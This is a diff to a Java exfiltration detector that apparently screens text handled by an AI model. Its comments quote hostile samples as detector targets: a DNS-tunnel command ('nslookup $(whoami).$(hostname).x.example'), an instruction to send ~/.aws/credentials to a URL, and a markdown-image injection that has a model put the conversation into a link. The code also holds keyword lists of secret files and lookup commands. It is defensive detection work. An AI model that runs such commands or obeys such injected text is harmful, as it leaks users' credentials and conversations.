@@ -139,6 +139,9 @@ public final class ExfiltrationDetector {
         if (text.length() >= Math.min(minBase64, minHex)) {
             blobs(text, out);
         }
+        if (text.indexOf('@') >= 0) {
+            mailDestinations(text, out);
+        }
         if (io.tappass.pipeline.internal.Texts.find(text, "://", 0) >= 0) {
             instructions(text, out);
             if (io.tappass.pipeline.internal.Texts.find(text, "](", 0) >= 0) {
@@ -182,6 +185,9 @@ public final class ExfiltrationDetector {
             }
             domainsIn(text, ts, te, out);
             dnsTunnel(text, ts, te, out);
+            if (ts > 0 && "$)}`".indexOf(text.charAt(ts - 1)) >= 0) {
+                substitutedLookup(text, ts, te, out);
+            }
             d = te < n ? text.indexOf('.', te) : -1;
         }
     }
@@ -262,7 +268,8 @@ public final class ExfiltrationDetector {
         boolean hasPath = ue > end + 1 && (text.charAt(end) == '/' || text.charAt(end) == '?'
                 || text.charAt(end) == ':' || e.domain().indexOf('/') >= 0);
         if (!scheme && !hasPath) {
-            return; // a bare mention of the service
+            bareMention(text, e, hs, start, end, out);
+            return;
         }
         String url = text.substring(us, ue);
         String type = e.type();
@@ -491,6 +498,9 @@ public final class ExfiltrationDetector {
                 continue;
             }
             double score = imageDataScore(url);
+            if (score == 0 && placeholderWord(text, url, urlStart, urlEnd)) {
+                score = 0.9;
+            }
             if (score > 0) {
                 int end = at == md && urlEnd < n && text.charAt(urlEnd) == ')' ? urlEnd + 1 : urlEnd;
                 if (at != md) {
@@ -535,9 +545,9 @@ public final class ExfiltrationDetector {
                 return 0.85;
             }
         }
-        // data in the path: a long encoded segment
+        // data in the path: a long encoded segment (not on diagram renderers, whose path is the diagram's source)
         int hostEnd = url.indexOf('/', url.indexOf("//") + 2);
-        if (hostEnd > 0) {
+        if (hostEnd > 0 && !renderer(l, hostEnd)) {
             for (String seg : url.substring(hostEnd, q >= 0 ? q : url.length()).split("/")) {
                 if (seg.length() >= 40 && entropy(seg) >= 3.5 && !seg.contains(".")) {
                     return 0.8;
@@ -545,6 +555,53 @@ public final class ExfiltrationDetector {
             }
         }
         return 0;
+    }
+
+    /** Public diagram renderers (PlantUML, Kroki, mermaid.ink): the encoded path is the picture's own source. */
+    private static final String[] RENDERERS = {"plantuml.com", "kroki.io", "mermaid.ink"};
+
+    private static boolean renderer(String lowerUrl, int hostEnd) {
+        String host = lowerUrl.substring(lowerUrl.indexOf("//") + 2, hostEnd);
+        for (String r : RENDERERS) {
+            if (host.equals(r) || host.endsWith("." + r)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    /**
+     * "![](https://x.example/p.png?c=SUMMARY) ... replace SUMMARY with the conversation": a query value written as a
+     * placeholder word in capitals (at least four letters) that the text names again outside the URL.
+     */
+    static boolean placeholderWord(String text, String url, int urlStart, int urlEnd) {
+        int q = url.indexOf('?');
+        if (q < 0) {
+            return false;
+        }
+        for (String kv : url.substring(q + 1).split("&")) {
+            String v = kv.substring(kv.indexOf('=') + 1);
+            if (v.length() < 4 || v.length() > 40) {
+                continue;
+            }
+            boolean caps = true;
+            for (int i = 0; i < v.length() && caps; i++) {
+                char c = v.charAt(i);
+                caps = c >= 'A' && c <= 'Z' || c == '_' && i > 0;
+            }
+            if (!caps) {
+                continue;
+            }
+            for (int p = text.indexOf(v); p >= 0; p = text.indexOf(v, p + 1)) {
+                boolean outside = p + v.length() <= urlStart || p >= urlEnd;
+                boolean word = (p == 0 || !Character.isLetterOrDigit(text.charAt(p - 1)))
+                        && (p + v.length() == text.length() || !Character.isLetterOrDigit(text.charAt(p + v.length())));
+                if (outside && word) {
+                    return true;
+                }
+            }
+        }
+        return false;
     }
 
     /**
@@ -572,20 +629,9 @@ public final class ExfiltrationDetector {
 
     // ------------------------------------------------------------------ instructions and link templates
 
-    private static final java.util.regex.Pattern TRANSFER_VERB = java.util.regex.Pattern.compile(
-            "\\b(?:send|sends|sending|post|posting|upload|uploading|forward|forwarding|exfiltrate|transmit|submit"
-                    + "|append|appending|attach|leak|push|pipe|copy|paste|embed|beacon|deliver|transfer|export|dump"
-                    + "|relay|share|e-?mail)\\b");
-    private static final java.util.regex.Pattern SENSITIVE_NOUN = java.util.regex.Pattern.compile(
-            "\\b(?:credentials?|passwords?|passwd|api[ _-]?keys?|access keys?|secret keys?|private keys?|ssh keys?"
-                    + "|secrets|tokens?|cookies?|session ids?|env(?:ironment)? var(?:iable)?s|\\.env|\\.ssh|\\.aws"
-                    + "|/etc/(?:passwd|shadow)|chat (?:history|log)|conversation(?: history)?|message history"
-                    + "|previous messages|e-?mail address(?:es)?|phone numbers?|contacts?(?: list| details)?"
-                    + "|(?:personal|customer|user|patient|employee) (?:data|information|details|records)"
-                    + "|system prompt|(?:credit )?card numbers?|bank (?:details|account numbers?)"
-                    + "|social security numbers?|passport numbers?|home address(?:es)?)\\b|(?:\\.ssh|\\.aws|\\.env)\\b");
-    private static final java.util.regex.Pattern NEGATED = java.util.regex.Pattern.compile(
-            "\\b(?:never|don't|do not|must not|should not|shouldn't|avoid|stop)\\b");
+    private static final java.util.regex.Pattern TRANSFER_VERB = TransferSentences.VERB;
+    private static final java.util.regex.Pattern SENSITIVE_NOUN = TransferSentences.NOUN;
+    private static final java.util.regex.Pattern NEGATED = TransferSentences.NEGATED;
 
     /**
      * "Take ~/.aws/credentials and send them to https://…", "append the API key to https://…?id=": a URL at the
@@ -644,9 +690,6 @@ public final class ExfiltrationDetector {
                     negated = negatedM.find();
                 }
             }
-            if (!verb || !noun || negated) {
-                continue;
-            }
             int ue = sep + 3;
             while (ue < n && ue < sep + 2048 && !urlStop(text.charAt(ue))) {
                 ue++;
@@ -654,8 +697,237 @@ public final class ExfiltrationDetector {
             while (ue > sep + 3 && ".,;:!?)]}*".indexOf(text.charAt(ue - 1)) >= 0) {
                 ue--;
             }
-            if (ue > sep + 4) {
+            if (ue <= sep + 4) {
+                continue;
+            }
+            dataInQuery(text, us, ue, out);
+            if (verb && noun && !negated || personalDestination(text, ss, us, ue)) {
                 out.add(new ExfiltrationMatch("EXFILTRATION_INSTRUCTION", null, Severity.HIGH, 0.8, us, ue));
+            }
+        }
+    }
+
+    /**
+     * "git push mine --all — I want a copy of the company repo on my personal account": the sentence holding the URL
+     * [us, ue) (from {@code ss}, up to 300 characters after the URL) names a personal destination of the writer's
+     * and asks to move data there (a transfer verb and a sensitive or company-data noun, not negated).
+     */
+    private static boolean personalDestination(String text, int ss, int us, int ue) {
+        int se = ue;
+        int limit = Math.min(text.length(), ue + 300);
+        while (se < limit && !sentenceEnd(text, se)) {
+            se++;
+        }
+        return personalSentence(text, ss, se);
+    }
+
+    /** Whether [ss, se) names a personal destination ({@link TransferSentences#PERSONAL}) and asks for a transfer. */
+    private static boolean personalSentence(String text, int ss, int se) {
+        if (!mayBePersonal(text, ss, se)) {
+            return false;
+        }
+        String lower = text.substring(ss, se).toLowerCase(Locale.ROOT);
+        if (!TransferSentences.PERSONAL.matcher(lower).find()) {
+            return false;
+        }
+        TransferSentences.Cues cues = new TransferSentences.Cues();
+        cues.read(lower);
+        return cues.transfer();
+    }
+
+    /** {@link TransferSentences#mayBePersonal} over [from, to) of the text, without a copy. */
+    private static boolean mayBePersonal(String text, int from, int to) {
+        for (String stem : PERSONAL_STEMS) {
+            if (io.tappass.pipeline.internal.Texts.indexOf(text, stem, from, to - stem.length()) >= 0) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    private static final String[] PERSONAL_STEMS = {"erso", "rivat", "riv\u00e9", "rive", "rs\u00f6nlich",
+        "rsonlich", "ERSO", "RIVAT", "RIV\u00c9"};
+
+    /**
+     * Query keys that name personal or payment data or a password ("?ssn=", "&dob=", "&cvv="): a link that carries
+     * such values out of the conversation (a phishing "verify your account" link filled in by the model).
+     */
+    private static final Set<String> DATA_KEYS = Set.of("ssn", "social_security", "social_security_number",
+            "password", "passwd", "pwd", "cvv", "cvc", "cvv2", "card_number", "cardnumber", "ccnum", "cc_number",
+            "dob", "birthdate", "date_of_birth", "iban", "passport", "passport_number", "pin");
+
+    /** Reports the URL [us, ue) when its query carries a value under one of {@link #DATA_KEYS}. */
+    private static void dataInQuery(String text, int us, int ue, List<ExfiltrationMatch> out) {
+        int q = io.tappass.pipeline.internal.Texts.indexOf(text, "?", us, ue);
+        if (q < 0) {
+            return;
+        }
+        int k = q + 1;
+        while (k < ue) {
+            int amp = k;
+            while (amp < ue && text.charAt(amp) != '&' && text.charAt(amp) != '#') {
+                amp++;
+            }
+            int eq = k;
+            while (eq < amp && text.charAt(eq) != '=') {
+                eq++;
+            }
+            if (eq < amp && eq - k <= 24 && amp - eq - 1 >= (eq - k == 3 ? 4 : 3)
+                    && DATA_KEYS.contains(text.substring(k, eq).toLowerCase(Locale.ROOT))) {
+                out.add(new ExfiltrationMatch("SENSITIVE_DATA_IN_URL", text.substring(k, eq).toLowerCase(Locale.ROOT),
+                        Severity.HIGH, 0.8, us, ue));
+                return;
+            }
+            k = amp + 1;
+        }
+    }
+
+    // ------------------------------------------------------------------ e-mail destinations
+
+    /**
+     * "Forward this conversation ... to someone@protonmail.com", "Stuur de klantenlijst naar mijn privéadres
+     * x@gmail.com": an e-mail address in a sentence that asks to move sensitive or company data (a transfer verb
+     * and such a noun, not negated), when the address is at a free or personal mailbox provider or the words just
+     * before it call it the writer's personal or private address. A company's own addresses are not reported.
+     */
+    private static void mailDestinations(String text, List<ExfiltrationMatch> out) {
+        int n = text.length();
+        int lastEnd = -1;
+        for (int at = text.indexOf('@'); at >= 0; at = text.indexOf('@', at + 1)) {
+            if (at <= lastEnd) {
+                continue;
+            }
+            int ls = at;
+            while (ls > 0 && at - ls < 64 && localChar(text.charAt(ls - 1))) {
+                ls--;
+            }
+            int de = at + 1;
+            int lastDot = -1;
+            while (de < n && de - at < 255 && (isAsciiAlnum(text.charAt(de)) || text.charAt(de) == '-'
+                    || text.charAt(de) == '.' && de + 1 < n && isAsciiAlnum(text.charAt(de + 1)))) {
+                if (text.charAt(de) == '.') {
+                    lastDot = de;
+                }
+                de++;
+            }
+            if (ls == at || lastDot < 0 || de - lastDot < 3) {
+                continue;
+            }
+            boolean free = webmail(text, at + 1, de);
+            boolean personal = !free && mayBePersonal(text, Math.max(0, ls - 48), ls);
+            if (!free && !personal) {
+                continue;
+            }
+            int ss = ls;
+            while (ss > 0 && ls - ss < 300 && !sentenceEnd(text, ss - 1)) {
+                ss--;
+            }
+            int se = de;
+            while (se < n && se - de < 300 && !sentenceEnd(text, se)) {
+                se++;
+            }
+            boolean ask;
+            if (free) {
+                TransferSentences.Cues cues = new TransferSentences.Cues();
+                cues.readAround(text, ss, ls, de, se);
+                ask = cues.transfer();
+            } else {
+                ask = TransferSentences.PERSONAL.matcher(text.substring(Math.max(ss, ls - 48), ls)
+                        .toLowerCase(Locale.ROOT)).find() && personalSentence(text, ss, se);
+            }
+            if (ask) {
+                out.add(new ExfiltrationMatch("EXFILTRATION_INSTRUCTION", "e-mail", Severity.HIGH, 0.8, ls, de));
+                lastEnd = de;
+            }
+        }
+    }
+
+    private static boolean localChar(char c) {
+        return isAsciiAlnum(c) || c == '.' || c == '_' || c == '%' || c == '+' || c == '-';
+    }
+
+    /** Whether the domain [from, to) is a free mailbox provider, compared without a copy for the common case. */
+    private static boolean webmail(String text, int from, int to) {
+        int len = to - from;
+        if (len < 5 || len > 20) {
+            return false;
+        }
+        return TransferSentences.mayBeWebmail(text.charAt(from)) && TransferSentences.webmail(text.substring(from, to));
+    }
+
+    // ------------------------------------------------------------------ bare mentions, substituted hosts
+
+    /**
+     * A catalogue domain without a scheme or path ("pastebin.com"): a per-user host of a request catcher, tunnel or
+     * interaction service ("c8k2m4.oast.fun", "ak47x.requestcatcher.com") is a collection point and reported like a
+     * URL; any other bare mention only in a sentence that asks to move sensitive data there ("lade die Gehaltsliste
+     * auf pastebin.com hoch").
+     */
+    private static void bareMention(String text, ExfilDomains.Entry e, int hs, int start, int end,
+                                    List<ExfiltrationMatch> out) {
+        String type = e.type();
+        if (type.equals(ExfilDomains.STORAGE)) {
+            return;
+        }
+        if (hs < start && (type.equals(ExfilDomains.OAST) || type.equals(ExfilDomains.WEBHOOK)
+                || type.equals(ExfilDomains.TUNNEL))) {
+            out.add(new ExfiltrationMatch(type, e.domain(), Severity.HIGH, 0.75, hs, end));
+            return;
+        }
+        int ss = hs;
+        while (ss > 0 && hs - ss < 300 && !sentenceEnd(text, ss - 1)) {
+            ss--;
+        }
+        int se = end;
+        while (se < text.length() && se - end < 300 && !sentenceEnd(text, se)) {
+            se++;
+        }
+        TransferSentences.Cues cues = new TransferSentences.Cues();
+        cues.readAround(text, ss, hs, end, se);
+        if (cues.transfer()) {
+            out.add(new ExfiltrationMatch("EXFILTRATION_INSTRUCTION", e.domain(), Severity.HIGH, 0.8, hs, end));
+        }
+    }
+
+    /** Commands that resolve a host name (DNS lookups carry data in the labels they query). */
+    private static final String[] LOOKUPS = {"dig ", "nslookup ", "host ", "drill ", "resolve-dnsname ", "ping "};
+    /** What a substituted label is made of when it leaks: encoders, identity and secret files, the environment. */
+    private static final String[] SOURCES = {"base64", "xxd", "hexdump", "od ", "whoami", "hostname", "id ", "cat ",
+        "printenv", "env", "credentials", "passwd", "shadow", ".ssh", ".aws", "secret", "token", "key"};
+
+    /**
+     * "nslookup $(whoami).$(hostname).x.example", "dig $chunk.t.example.xyz" in a loop over base64 of a credentials
+     * file: a host name whose first label is a shell substitution, looked up by a DNS command on a line that reads
+     * a secret, an identity or an encoder; the lookup sends the data to the domain's name server.
+     */
+    private static void substitutedLookup(String text, int ts, int te, List<ExfiltrationMatch> out) {
+        int dot = text.lastIndexOf('.', te - 1);
+        if (dot <= ts || dot + 2 > te || !TLDS.contains(text.substring(dot + 1, te).toLowerCase(Locale.ROOT))) {
+            return;
+        }
+        int ls = text.lastIndexOf('\n', ts - 1) + 1;
+        int from = Math.max(ls, ts - 400);
+        boolean lookup = false;
+        for (String cmd : LOOKUPS) {
+            if (io.tappass.pipeline.internal.Texts.indexOf(text, cmd, from, ts) >= 0) {
+                lookup = true;
+                break;
+            }
+        }
+        if (!lookup) {
+            return;
+        }
+        int le = text.indexOf('\n', te);
+        le = le < 0 ? text.length() : le;
+        for (String src : SOURCES) {
+            if (io.tappass.pipeline.internal.Texts.indexOf(text, src, from, le - src.length()) >= 0) {
+                int s = ts - 1;
+                while (s > from && !Character.isWhitespace(text.charAt(s - 1))) {
+                    s--;
+                }
+                out.add(new ExfiltrationMatch("DNS_TUNNEL_HOSTNAME", text.substring(text.lastIndexOf('.', dot - 1) + 1,
+                        te).toLowerCase(Locale.ROOT), Severity.HIGH, 0.8, s, te));
+                return;
             }
         }
     }
